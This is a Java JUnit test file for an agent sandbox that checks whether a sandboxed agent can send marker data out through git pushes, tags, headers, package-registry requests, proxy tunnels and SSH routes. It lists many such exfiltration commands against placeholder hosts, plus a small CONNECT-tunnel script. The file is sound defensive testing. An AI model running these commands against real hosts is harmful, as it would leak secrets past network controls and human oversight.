package dev.otters.acceptance;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/**
 * Ways to carry data out in commits and in the metadata of packages. Each works for an agent that
 * may reach the host, or outside of a sandbox. An agent that was started without flags sends
 * nothing.
 */
@Tag("bubblewrap")
class ExfiltrationTest extends OneHome {
  /** Pushes and requests. {@code TO} is the host with its port, and {@code CANARY} the data. */
  private static final List<String> COMMITS =
      List.of(
          "git push -q http://TO/drop.git HEAD:refs/heads/work",
          "git push -q http://TO/drop.git HEAD:refs/heads/CANARY",
          "git tag -a v1 -m CANARY && git push -q http://TO/drop.git v1",
          "git ls-remote http://TO/CANARY.git",
          "git clone -q http://TO/CANARY.git",
          "git fetch -q 'http://TO/drop.git?CANARY'",
          "git -c http.userAgent=CANARY ls-remote http://TO/drop.git",
          "git -c http.extraHeader='X-Data: CANARY' ls-remote http://TO/drop.git",
          "git -c http.proxy=http://127.0.0.1:3128 ls-remote http://TO/CANARY.git",
          "git -c http.proxy=socks5h://127.0.0.1:3128 ls-remote http://TO/CANARY.git",
          "git remote add origin http://TO/CANARY.git && git push -q origin HEAD",
          "git -c url.http://TO/.insteadOf=https://example.com/"
              + " ls-remote https://example.com/CANARY.git");

  /** Tunnels to {@code COUNTER}, where somebody counts the connections. */
  private static final List<String> TUNNELS =
      List.of(
          "git -c http.sslVerify=false push -q https://COUNTER/CANARY.git HEAD",
          "git -c core.gitProxy=/programs/tunnel push -q git://COUNTER/CANARY.git HEAD",
          "GIT_SSH=/programs/ssh-tunnel git push -q ssh://git@COUNTER/CANARY.git HEAD");

  /** Ways that need a route. */
  private static final List<String> ROUTES =
      List.of(
          "git push -q git://COUNTER/CANARY.git HEAD",
          "git -c http.proxy= push -q http://COUNTER/CANARY.git HEAD",
          "git -c http.proxy=http://COUNTER ls-remote http://example.com/CANARY.git",
          "GIT_SSH=SSH git push -q ssh://git@COUNTER/CANARY.git HEAD");

  private static final String PIP =
      "PYTHONPATH=/programs python3 -m pip --no-cache-dir --retries 0 --disable-pip-version-check"
          + " --trusted-host HOST download -d /tmp ";

  private static final List<String> PYTHON =
      List.of(
          "python3 -c 'import urllib.request as r; r.urlopen(r.Request(\"http://TO/legacy/\","
              + " b\":action=file_upload&name=x&version=1&summary=CANARY\"))'",
          PIP + "-i http://TO/CANARY/simple x",
          PIP + "-i http://TO/simple CANARY",
          PIP + "http://TO/CANARY-1-py3-none-any.whl");

  private static final List<String> NPM =
      List.of(
          HostNode.NPM + " publish --fetch-retries 0 --registry http://TO/ --//TO/:_authToken=x",
          HostNode.NPM + " view --fetch-retries 0 --registry http://TO/ @scope/CANARY",
          HostNode.NPM + " install --fetch-retries 0 http://TO/CANARY.tgz");

  /** Makes a repository with one commit, and enters it. */
  private static final String COMMIT =
      "export GIT_AUTHOR_NAME=CANARY GIT_AUTHOR_EMAIL=a@b.example GIT_COMMITTER_NAME=CANARY"
          + " GIT_COMMITTER_EMAIL=a@b.example GIT_TERMINAL_PROMPT=0 no_proxy= NO_PROXY=;"
          + " rm -rf \"$HOME/r\" && git init -q \"$HOME/r\" && cd \"$HOME/r\""
          + " && git commit -q --allow-empty -m CANARY && ";

  private static final String PACKAGE =
      "export no_proxy= NO_PROXY=; rm -rf /tmp/p && mkdir /tmp/p && cd /tmp/p && echo"
          + " '{\"name\":\"x\",\"version\":\"1.0.0\",\"description\":\"CANARY\"}' > package.json"
          + " && ";

  private static final String TUNNEL =
      """
      import socket, sys
      proxy = socket.create_connection(("127.0.0.1", 3128))
      proxy.sendall("CONNECT {}:{} HTTP/1.1\\r\\n\\r\\n".format(*sys.argv[1:]).encode())
      sys.stderr.write(proxy.recv(4096).decode())
      """;

  private static final String SSH =
      "lib=$(echo /host/lib/*-linux-gnu); exec $lib/ld-linux-*.so.* --library-path $lib"
          + " /host/bin/ssh -F none -o StrictHostKeyChecking=no ";

  private String address;
  private Path programs;
  private Drop drop;
  private Sink sink;

  @Override
  Otters fresh() throws IOException {
    return Otters.freshWithBubblewrap();
  }

  @BeforeAll
  void aHomeWithPrograms() throws IOException {
    assumeTrue(HostNode.has("git"), "git is not on this machine: no server takes commits");
    address = Sink.address();
    programs = Files.createDirectory(otters.files().resolve("programs"));
    Otters.write(programs.resolve("tunnel.py"), TUNNEL);
    program("tunnel", "exec /opt/bins/python3 /programs/tunnel.py \"$@\"");
    program("ssh", SSH + "\"$@\"");
    program("ssh-tunnel", SSH + "-o ProxyCommand='/programs/tunnel %h %p' \"$@\"");
    otters.script("none", "rules:\n  - when: {user: \".*\"}\n    say: ok\n");
  }

  @BeforeEach
  void anAgentWithoutFlagsAndOneThatMayReachTheHost() throws IOException {
    sink = Sink.open();
    drop = Drop.open(Files.createTempDirectory(otters.files(), "drop"));
    Path context =
        otters.agentfile(
            "scout",
            """
            FROM scratch
            MODEL scripted/none
            BIN sh otters/tools/sh:latest "A shell."
            BIN git otters/tools/git:latest "Versions files."
            BIN python3 otters/tools/python3:latest "Runs Python."
            """);
    run("closed", context);
    run("open", context, "--allow-host", to(), "--allow-host", counter());
  }

  private void program(String name, String line) {
    Otters.write(programs.resolve(name), "#!/opt/bins/sh\n" + line + "\n");
    assertThat(programs.resolve(name).toFile().setExecutable(true, false)).isTrue();
  }

  private void run(String name, Path context, String... flags) {
    List<String> command = new ArrayList<>(List.of("run", "--name", name));
    command.addAll(List.of("-v", HostNode.MOUNT, "-v", programs + ":/programs:ro"));
    command.addAll(List.of(flags));
    command.add(context.toString());
    otters.run(command.toArray(String[]::new)).ok();
  }

  @AfterEach
  void closeServers() throws IOException {
    drop.close();
    sink.close();
  }

  private String to() {
    return address + ":" + drop.port();
  }

  private String counter() {
    return address + ":" + sink.port();
  }

  /** Completes a way, whose data nothing else has. */
  private String filled(String way, int number, String ssh) {
    return way.replace("TO/", to() + "/")
        .replace("COUNTER", counter())
        .replace("HOST", address)
        .replace("GIT_SSH=SSH", "GIT_SSH=" + ssh)
        .replace("CANARY", canary(number));
  }

  private static String canary(int number) {
    return "canary" + number + "bird";
  }

  private Run shell(String agent, String way, int number) {
    String[] line = {"exec", "-e", "HOME=/tmp", "-e", "SHELL=/opt/bins/sh", agent, "sh", "-c"};
    List<String> command = new ArrayList<>(List.of(line));
    command.add(filled(way, number, "/programs/ssh"));
    return otters.run(command.toArray(String[]::new));
  }

  /** Tries ways of an agent without flags, and then of the other one, whose data arrives. */
  private void assertLeavesOnlyWithLeave(String before, List<String> ways) {
    assertNothingLeaves(before, ways);
    for (int i = 0; i < ways.size(); i++) {
      Run run = shell("open", before + ways.get(i), i);
      assertThat(arrived()).as("%s", run).contains(canary(i));
    }
  }

  private String arrived() {
    return String.join("\n", drop.taken()) + drop.pushed();
  }

  private void assertNothingLeaves(String before, List<String> ways) {
    for (int i = 0; i < ways.size(); i++) {
      Run run = shell("closed", before + ways.get(i), i);
      assertThat(run.code()).as("%s", run).isNotZero();
      assertThat(drop.taken()).as("%s", run).isEmpty();
      assertThat(sink.connections()).as("%s", run).isZero();
    }
    for (JsonNode contact : otters.json("egress", "closed")) {
      assertThat(contact.get("allowed").asBoolean()).as("%s", contact).isFalse();
      assertThat(contact.get("sent").asLong()).as("%s", contact).isZero();
    }
  }

  @Test
  void commitsBranchesAndAddressesOfRepositoriesCarryNothingOut() {
    assertLeavesOnlyWithLeave(COMMIT, COMMITS);
    assertThat(drop.pushed()).contains(canary(0), "refs/heads/" + canary(1), canary(2));
  }

  @Test
  void tunnelsForCommitsCarryNothingOut() {
    assertNothingLeaves(COMMIT, TUNNELS);
    for (int i = 0; i < TUNNELS.size(); i++) {
      int earlier = sink.connections();
      Run run = shell("open", COMMIT + TUNNELS.get(i), i);
      Eventually.is("a connection by " + run, () -> sink.connections() > earlier);
    }
  }

  @Test
  void commitsHaveNoRouteAroundTheProxy() throws IOException {
    assumeTrue(HostNode.has("ssh"), "ssh is not on this machine: no sandbox can try it");
    assertNothingLeaves(COMMIT, ROUTES);
    Path user = Files.createDirectory(otters.files().resolve("outside"));
    Map<String, String> environment = Map.of("PATH", "/usr/bin:/bin", "HOME", user.toString());
    for (int i = 0; i < ROUTES.size(); i++) {
      assertThat(shell("open", COMMIT + ROUTES.get(i), i).code()).isNotZero();
      int earlier = sink.connections();
      List<String> line = List.of("/bin/sh", "-c", filled(COMMIT + ROUTES.get(i), i, "ssh"));
      Run outside = Run.start(user, environment, "", line).await();
      Eventually.is("a connection by " + outside, () -> sink.connections() > earlier);
    }
  }

  @Test
  void metadataOfPythonPackagesCarriesNothingOut() {
    List<String> find = List.of("python3", "-c", "import pip; print(pip.__path__[0])");
    Run pip = Run.start(programs, System.getenv(), "", find).await();
    assumeTrue(pip.code() == 0, () -> "pip is not on this machine: " + pip);
    List<String> copy = List.of("cp", "-rL", pip.out().strip(), programs.resolve("pip").toString());
    Run.start(programs, System.getenv(), "", copy).await().ok();
    assertLeavesOnlyWithLeave(PACKAGE, PYTHON);
  }

  @Test
  void metadataOfNodePackagesCarriesNothingOut() {
    Path npm = Path.of(HostNode.NPM.replace("/host/", "/usr/"));
    assumeTrue(Files.exists(npm), () -> npm + " is not on this machine");
    assertLeavesOnlyWithLeave(PACKAGE, NPM.stream().map(HostNode::line).toList());
  }
}
